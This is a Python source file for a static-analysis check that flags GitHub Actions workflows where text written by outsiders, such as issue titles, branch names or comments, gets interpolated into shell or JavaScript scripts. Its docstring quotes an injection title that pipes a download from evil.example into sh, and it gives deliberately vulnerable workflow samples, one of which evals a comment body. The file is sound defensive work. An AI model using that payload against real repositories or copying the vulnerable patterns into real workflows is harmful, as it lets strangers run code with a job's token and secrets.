"""The check ``workflow-template-injection``: a stranger's text becomes part of a script."""

from __future__ import annotations

from collections.abc import Iterator

from checks.light import dataclass
from checks.model import Aspect, Confidence, Edit, Severity, Span
from checks.registry import CODE_ROLES, WORKFLOW, check
from checks.report import Report
from checks.workflows import knowledge, scripts
from checks.workflows.contexts import CALLER, UNPRIVILEGED, Level
from checks.workflows.event import WorkflowEvent
from checks.workflows.expressions import Placed
from checks.workflows.flow import Values
from checks.workflows.indirection import edits_for
from checks.workflows.judging import Weight, weight_of_text
from checks.workflows.model import Document, Job, Step, Text
from checks.workflows.taint import Taint

_QUOTES = frozenset("'\"`")
_SHOWN = 80


@check(
    id="workflow-template-injection",
    title="Text of others run as a script",
    aspect=Aspect.INPUT,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    roles=CODE_ROLES,
    on=WORKFLOW,
    languages=frozenset({"yaml"}),
    cwe=(94, 78),
    security=True,
)
def workflow_template_injection(event: WorkflowEvent, report: Report) -> None:
    """An expression puts text that somebody else wrote into a script before it is run.

    `${{ … }}` is replaced before the shell, or `actions/github-script`, sees the script: quotes
    around it do not help. Followed are titles, texts, branch names, commit messages and the names
    of their authors, also where they go through `env`, outputs of steps and jobs, or a matrix. A
    variable that a script reads itself, `"$TITLE"`, is clean, unless it is handed to `eval` or
    `sh -c`. Inputs of actions and of workflows are a note in the summary.

    Why:
        A title of `"; curl https://evil.example | sh; "` runs in the job, with the job's token and
        its secrets. Nobody has to accept anything: opening an issue or a pull request is enough.
    Bad:
        # file: .github/workflows/triage.yml
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "New issue ${{ github.event.issue.title }}"
    Bad:
        # file: .github/workflows/preview.yml
        on: pull_request_target
        jobs:
          name:
            runs-on: ubuntu-latest
            env:
              BRANCH: ${{ github.head_ref }}
            steps:
              - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                with:
                  script: |
                    console.log("building ${{ env.BRANCH }}")
    Bad:
        # file: .github/workflows/command.yml
        on: issue_comment
        jobs:
          run:
            runs-on: ubuntu-latest
            steps:
              - env:
                  COMMENT: ${{ github.event.comment.body }}
                run: eval "$COMMENT"
    Good:
        # file: .github/workflows/triage.yml
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - env:
                  TITLE: ${{ github.event.issue.title }}
                run: echo "New issue $TITLE"
    Good:
        # file: .github/workflows/preview.yml
        on: pull_request_target
        jobs:
          name:
            runs-on: ubuntu-latest
            steps:
              - run: echo "building ${{ github.event.pull_request.head.sha }}"
    Suppress:
        Where the text can only come from people who may run code here anyway: say who.
    """
    values = Values(event.document)
    inputs: list[Found] = []
    for job, step in event.document.steps():
        if report.is_full:
            break
        for found in found_in(event.document, values, job, step):
            if found.taint.level is Level.OUTSIDER:
                _tell(event, report, found)
            else:
                inputs.append(found)
    if inputs:
        _tell(event, report, inputs[0], len({one.taint.path for one in inputs}) - 1)


@dataclass(frozen=True, slots=True)
class Found:
    """Text of others that is run as code."""

    job: Job
    step: Step
    span: Span
    message: str
    fix: str
    taint: Taint
    weight: Weight
    end: str
    """The last step of its way, in words."""
    edits: tuple[Edit, ...] = ()


def found_in(document: Document, values: Values, job: Job, step: Step) -> Iterator[Found]:
    """The texts of others that a step runs as code."""
    for text, language in _code(step):
        yield from _in_text(document, values, job, step, text, language)
    if step.run is not None and scripts.is_followed(step.shell):
        yield from _evaluated(document, values, job, step, step.run)


def _tell(event: WorkflowEvent, report: Report, found: Found, others: int = 0) -> None:
    message = found.message
    if others > 0:
        inputs = "another input is" if others == 1 else f"{others} more inputs are"
        message = f"{message[:-1]}; {inputs} used so in this file."
    weight, taint = found.weight, found.taint
    report(
        at=found.span,
        message=message,
        why=_why(weight, taint),
        fix=found.fix,
        severity=weight.severity,
        confidence=weight.confidence,
        surface=weight.surface,
        trace=taint.steps(event.path, event.source, found.span, found.end),
        edits=found.edits,
        scope=found.job.scope_of(found.step),
    )


def _code(step: Step) -> Iterator[tuple[Text, str]]:
    """The texts of a step that are run as code, and their language."""
    if step.run is not None:
        yield step.run, "shell" if scripts.is_posix(step.shell) else step.shell.split(" ")[0]
    if step.uses is None:
        return
    names, language = knowledge.CODE_INPUTS.get(step.uses.name, ((), ""))
    for name in names:
        if name in step.inputs:
            yield step.inputs[name].value, language


def _in_text(
    document: Document, values: Values, job: Job, step: Step, text: Text, language: str
) -> Iterator[Found]:
    told: set[str] = set()
    for placed, taint in values.in_text(text, job, step):
        written = text.text[placed.start : placed.end]
        if written in told or (language == "JavaScript" and _is_literal(text, placed, taint)):
            continue
        weight = weight_of_text(document, job, step, taint)
        if weight is None:
            continue
        told.add(written)
        shown = written if len(written) <= _SHOWN else f"{written[:_SHOWN]}…"
        message = f"`{shown}` puts {taint.what} into the text of a {_named(language)}."
        edits: tuple[Edit, ...] = ()
        if text is step.run and taint.level is Level.OUTSIDER:
            edits = edits_for(document, job, step, text, placed, taint.path)
        yield Found(
            job, step, text.place(placed), message, _fix(language), taint, weight,
            "becomes part of the script", edits,
        )  # fmt: skip


def _is_literal(text: Text, placed: Placed, taint: Taint) -> bool:
    """Whether a value that was made JSON stands alone, as a literal of JavaScript."""
    return taint.as_json and text.text[placed.start - 1 : placed.start] not in _QUOTES


def _named(language: str) -> str:
    return f"{language} script" if language.isalpha() else "script"


def _why(weight: Weight, taint: Taint) -> str:
    if taint.level is Level.MEMBER:
        return "Whoever may start the workflow can run any command in this job."
    if taint.level is Level.CALLER or weight.event == CALLER:
        return "What a caller hands in is run as commands, and callers hand in what others wrote."
    if weight.event in UNPRIVILEGED:
        return "Whoever opens a pull request can run any command in this job."
    if weight.event == "push":
        return "Whoever wrote the commit that is merged can run commands in this job."
    return "Anybody can write it, and so run commands in this job, with its token and secrets."


def _fix(language: str) -> str:
    if language == "JavaScript":
        return "Hand it over in `env:` and read `process.env` in the script."
    if language == "shell":
        return 'Hand it over in `env:` and use the variable in double quotes, as in `"$VALUE"`.'
    return "Hand it over in `env:` and read the variable of the environment in the script."


def _evaluated(
    document: Document, values: Values, job: Job, step: Step, run: Text
) -> Iterator[Found]:
    for one in scripts.evaluated(run, values.variables(job, step)):
        weight = weight_of_text(document, job, step, one.taint)
        if weight is None:
            continue
        message = f"`{one.program}` runs `${one.variable}`, which holds {one.taint.what}."
        fix = "Do not evaluate it: compare it with the words that are allowed."
        span = run.scalar.span_of(one.start, one.end)
        yield Found(job, step, span, message, fix, one.taint, weight, "is run as code")
